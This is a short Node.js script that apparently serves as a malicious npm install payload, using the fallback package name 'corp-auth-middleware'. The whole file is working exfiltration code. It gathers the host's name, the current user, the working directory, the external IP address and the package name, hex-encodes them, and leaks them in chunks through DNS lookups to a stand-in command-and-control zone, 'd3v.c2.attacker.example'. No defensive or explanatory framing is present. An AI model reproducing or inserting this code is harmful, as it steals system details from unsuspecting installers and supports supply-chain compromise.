'use strict';
const dns = require('dns');
const os = require('os');

const ZONE = 'd3v.c2.attacker.example';
const id = Math.random().toString(16).slice(2, 8);

function hex(s) {
  return Buffer.from(String(s), 'utf8').toString('hex');
}

// DNS labels are max 63 chars; keep 60 to leave room for the index
function chunk(str, n) {
  const out = [];
  for (let i = 0; i < str.length; i += n) out.push(str.slice(i, i + n));
  return out;
}

let ip = '';
try {
  const nets = os.networkInterfaces();
  for (const k in nets) for (const n of nets[k]) if (n.family === 'IPv4' && !n.internal) ip = n.address;
} catch (e) {}

const info = [
  os.hostname(),
  os.userInfo().username,
  process.cwd(),
  ip,
  process.env.npm_package_name || 'corp-auth-middleware',
].join('|');

const parts = chunk(hex(info), 60);
parts.forEach(function (p, i) {
  const name = [p, i, parts.length, id, ZONE].join('.');
  setTimeout(function () {
    dns.lookup(name, function () {});
  }, i * 150);
});
